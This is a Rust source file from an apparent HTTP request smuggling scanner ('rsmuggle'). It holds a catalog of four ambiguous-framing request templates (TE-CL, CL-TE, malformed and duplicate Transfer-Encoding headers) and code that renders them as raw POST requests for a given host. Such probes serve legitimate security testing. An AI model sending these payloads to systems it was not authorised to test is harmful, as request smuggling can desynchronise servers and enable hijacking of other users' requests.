// File: payloads.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

//! Catalog of ambiguous-framing requests.
//!
//! Every variant shares one request template and differs only in the framing
//! headers and the body. New variants are added as rows in [`CATALOG`].

use serde::Serialize;

pub const USER_AGENT: &str = concat!("rsmuggle/", env!("CARGO_PKG_VERSION"));

#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq, Hash)]
pub enum AmbiguityClass {
    TeCl,
    TeClMalformedName,
    ClTe,
    DuplicateTe,
}

impl AmbiguityClass {
    pub fn description(&self) -> &'static str {
        match self {
            Self::TeCl => "Content-Length and Transfer-Encoding both present",
            Self::TeClMalformedName => "Transfer-Encoding header name followed by a space",
            Self::ClTe => "Content-Length covers a complete chunked body",
            Self::DuplicateTe => "Two Transfer-Encoding headers, invalid one first",
        }
    }
}

struct VariantTemplate {
    name: &'static str,
    ambiguity: AmbiguityClass,
    framing_headers: &'static [&'static str],
    body: &'static str,
}

const CATALOG: &[VariantTemplate] = &[
    VariantTemplate {
        name: "TE-CL basic",
        ambiguity: AmbiguityClass::TeCl,
        framing_headers: &["Content-Length: 4", "Transfer-Encoding: chunked"],
        body: "0\r\n\r\nGARB",
    },
    VariantTemplate {
        name: "TE-CL space-colon",
        ambiguity: AmbiguityClass::TeClMalformedName,
        framing_headers: &["Content-Length: 4", "Transfer-Encoding : chunked"],
        body: "0\r\n\r\nGARB",
    },
    VariantTemplate {
        name: "CL-TE basic",
        ambiguity: AmbiguityClass::ClTe,
        framing_headers: &["Content-Length: 10", "Transfer-Encoding: chunked"],
        body: "5\r\nHELLO\r\n0\r\n\r\n",
    },
    VariantTemplate {
        name: "Duplicate TE headers",
        ambiguity: AmbiguityClass::DuplicateTe,
        framing_headers: &[
            "Content-Length: 4",
            "Transfer-Encoding: cow",
            "Transfer-Encoding: chunked",
        ],
        body: "0\r\n\r\nGARB",
    },
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadVariant {
    pub name: String,
    pub raw_bytes: Vec<u8>,
    pub ambiguity: AmbiguityClass,
}

impl PayloadVariant {
    pub fn request_text(&self) -> String {
        String::from_utf8_lossy(&self.raw_bytes).into_owned()
    }
}

/// Builds every catalog variant for `host` and an already normalized `path`.
pub fn build(host: &str, path: &str) -> Vec<PayloadVariant> {
    CATALOG
        .iter()
        .map(|template| render(template, host, path))
        .collect()
}

pub fn variant_names() -> Vec<&'static str> {
    CATALOG.iter().map(|t| t.name).collect()
}

fn render(template: &VariantTemplate, host: &str, path: &str) -> PayloadVariant {
    let mut request = format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\nConnection: close\r\n",
        path, host, USER_AGENT
    );
    for header in template.framing_headers {
        request.push_str(header);
        request.push_str("\r\n");
    }
    request.push_str("\r\n");
    request.push_str(template.body);

    PayloadVariant {
        name: template.name.to_string(),
        raw_bytes: request.into_bytes(),
        ambiguity: template.ambiguity,
    }
}
